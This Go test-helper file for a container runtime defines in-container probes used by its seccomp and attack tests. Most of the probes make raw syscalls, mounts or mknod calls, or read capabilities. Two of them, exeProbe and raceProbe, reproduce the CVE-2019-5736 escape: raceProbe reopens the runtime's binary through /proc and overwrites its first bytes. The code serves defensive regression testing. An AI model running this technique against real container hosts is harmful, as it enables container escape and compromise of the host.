package container

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// moreProbes are the helper's probes beyond helper_test.go's, for the
// seccomp and attack tests (helperMain looks a kind up here last):
//
//	sys:NAME:A0,A1,…  a raw system call (a name of sysNumbers) with integer
//	                  arguments; Err the errno, Content the result
//	mount:PATH        mount a tmpfs on PATH
//	hostname:NAME     sethostname
//	mkdir:PATH        mkdir (a call the notify test has the agent answer)
//	openw:PATH        open PATH for writing, following links; Content the
//	                  target /proc/self/fd shows for the fd
//	exe:PATTERN       for each /proc/PID (PATTERN "all", or one pid) other
//	                  than the helper's own: open its exe O_PATH, then for
//	                  writing through /proc/self/fd; Entries "PID:open-errno:write-errno"
//	fds               Entries: every fd of the helper and its target
//	chdir:PATH        chdir, then getcwd: Content the cwd, Err the errno
//	caps              Content: CapInh CapPrm CapEff CapBnd CapAmb of the helper
//	mknod:PATH:T:MAJ:MIN  mknod a node of type T (c or b) at PATH
//	chown:PATH        chown PATH to 0:0
//	race:MARK:FIFO    CVE-2019-5736's exploit (raceProbe)
var moreProbes = map[string]func(string) probe{
	"race":     raceProbe,
	"sys":      sysProbe,
	"mount":    func(p string) probe { return errProbe(unix.Mount("none", p, "tmpfs", 0, "")) },
	"hostname": func(n string) probe { return errProbe(unix.Sethostname([]byte(n))) },
	"mkdir":    func(p string) probe { return errProbe(unix.Mkdir(p, 0o755)) },
	"openw":    openWriteProbe,
	"exe":      exeProbe,
	"fds":      func(string) probe { return fdsProbe() },
	"chdir":    chdirProbe,
	"caps":     func(string) probe { return capsProbe() },
	"mknod":    mknodProbe,
	"chown":    func(p string) probe { return errProbe(unix.Chown(p, 0, 0)) },
}

// sysNumbers are the system calls sys: makes, by name.
var sysNumbers = map[string]uintptr{
	"unshare": unix.SYS_UNSHARE, "keyctl": unix.SYS_KEYCTL, "add_key": unix.SYS_ADD_KEY,
	"setns": unix.SYS_SETNS, "personality": unix.SYS_PERSONALITY, "getppid": unix.SYS_GETPPID,
	"ptrace": unix.SYS_PTRACE, "bpf": unix.SYS_BPF,
}

func errProbe(err error) probe {
	if err != nil {
		return probe{Err: errName(err)}
	}
	return probe{}
}

func sysProbe(arg string) probe {
	name, list, _ := strings.Cut(arg, ":")
	nr, ok := sysNumbers[name]
	if !ok {
		return probe{Err: "unknown system call " + name}
	}
	var a [6]uintptr
	if list != "" {
		for i, s := range strings.Split(list, ",") {
			v, err := strconv.ParseUint(s, 0, 64)
			if err != nil || i >= len(a) {
				return probe{Err: "bad argument " + s}
			}
			a[i] = uintptr(v)
		}
	}
	r, _, e := unix.Syscall6(nr, a[0], a[1], a[2], a[3], a[4], a[5])
	if e != 0 {
		return probe{Err: errName(e)}
	}
	return probe{Content: strconv.FormatUint(uint64(r), 10)}
}

func openWriteProbe(p string) probe {
	fd, err := unix.Open(p, unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return probe{Err: errName(err)}
	}
	defer unix.Close(fd)
	target, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
	return probe{Content: target}
}

// exeProbe tries what CVE-2019-5736 did: open another process's
// /proc/PID/exe (O_PATH, as the exploit did, since the binary is busy
// while it runs) and reopen it for writing through /proc/self/fd.
func exeProbe(pattern string) probe {
	var pids []string
	if pattern == "all" {
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			if _, err := strconv.Atoi(e.Name()); err == nil && e.Name() != strconv.Itoa(os.Getpid()) {
				pids = append(pids, e.Name())
			}
		}
	} else {
		pids = []string{pattern}
	}
	pr := probe{Entries: []string{}}
	for _, pid := range pids {
		openErr, writeErr := "", "-"
		fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			openErr = errName(err)
		} else {
			w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				writeErr = errName(err)
			} else {
				writeErr = ""
				unix.Close(w)
			}
			unix.Close(fd)
		}
		pr.Entries = append(pr.Entries, pid+":"+openErr+":"+writeErr)
	}
	return pr
}

func fdsProbe() probe {
	ents, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		return probe{Err: errName(err)}
	}
	pr := probe{Entries: []string{}}
	for _, e := range ents {
		target, err := os.Readlink("/proc/self/fd/" + e.Name())
		if err != nil {
			continue // ReadDir's own fd, closed by now
		}
		pr.Entries = append(pr.Entries, e.Name()+" -> "+target)
	}
	return pr
}

func chdirProbe(p string) probe {
	if err := unix.Chdir(p); err != nil {
		return probe{Err: errName(err)}
	}
	wd, err := os.Getwd()
	if err != nil {
		return probe{Err: errName(err)}
	}
	return probe{Content: wd}
}

func capsProbe() probe {
	data, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return probe{Err: errName(err)}
	}
	var sets []string
	for _, l := range strings.Split(string(data), "\n") {
		for _, k := range []string{"CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:"} {
			if v, ok := strings.CutPrefix(l, k); ok {
				sets = append(sets, strings.TrimSpace(v))
			}
		}
	}
	return probe{Content: strings.Join(sets, " ")}
}

// raceProbe plays CVE-2019-5736's exploit from inside the container: it
// watches /proc for a process whose command line holds MARK (the test
// makes minirun exec one that runs minirun's own binary, /proc/self/exe,
// and blocks it opening FIFO for its --log), opens that process's
// /proc/PID/exe O_PATH — the binary is busy while it runs — lets it go by
// opening FIFO, then waits for a line on stdin (the test sends it once no
// process runs the binary any more) and reopens the binary for writing
// through /proc/self/fd, writing over its first bytes if it can.
// Entries: what happened, one step a line; Err the final reopen's errno.
func raceProbe(arg string) probe {
	mark, fifo, _ := strings.Cut(arg, ":")
	pr := probe{Entries: []string{}}
	note := func(format string, a ...any) { pr.Entries = append(pr.Entries, fmt.Sprintf(format, a...)) }
	self := strconv.Itoa(os.Getpid())
	exe := -1
	refused := map[string]string{}
	for deadline := time.Now().Add(30 * time.Second); exe < 0 && time.Now().Before(deadline); {
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid := e.Name()
			if _, err := strconv.Atoi(pid); err != nil || pid == self {
				continue
			}
			cmd, err := os.ReadFile("/proc/" + pid + "/cmdline")
			// The racer's own launchers (minirun exec, without a PID
			// namespace of the container's) name the probe, race:MARK.
			if err != nil || !strings.Contains(string(cmd), mark) || strings.Contains(string(cmd), "race:"+mark) {
				continue
			}
			fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				refused[pid] = errName(err)
				continue
			}
			exe = fd
			note("caught %s (%s)", pid, strings.ReplaceAll(string(cmd), "\x00", " "))
			break
		}
	}
	for pid, e := range refused {
		note("refused %s: %s", pid, e)
	}
	if exe < 0 {
		// Let the process go all the same.
		if f, err := os.OpenFile(fifo, os.O_RDONLY|unix.O_NONBLOCK, 0); err == nil {
			defer f.Close()
		}
		pr.Err = "never caught"
		return pr
	}
	defer unix.Close(exe)
	f, err := os.OpenFile(fifo, os.O_RDONLY, 0)
	if err != nil {
		note("fifo: %v", err)
	} else {
		defer f.Close()
	}
	var line [1]byte
	os.Stdin.Read(line[:])
	w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", exe), unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		pr.Err = errName(err)
		return pr
	}
	defer unix.Close(w)
	if _, err := unix.Pwrite(w, []byte("PWNED"), 0); err != nil {
		note("write: %v", err)
	} else {
		note("wrote over the binary")
	}
	return pr
}

func mknodProbe(arg string) probe {
	parts := strings.Split(arg, ":")
	if len(parts) != 4 {
		return probe{Err: "want PATH:TYPE:MAJOR:MINOR"}
	}
	mode := uint32(unix.S_IFCHR)
	if parts[1] == "b" {
		mode = unix.S_IFBLK
	}
	maj, _ := strconv.Atoi(parts[2])
	minor, _ := strconv.Atoi(parts[3])
	return errProbe(unix.Mknod(parts[0], mode|0o666, int(unix.Mkdev(uint32(maj), uint32(minor)))))
}
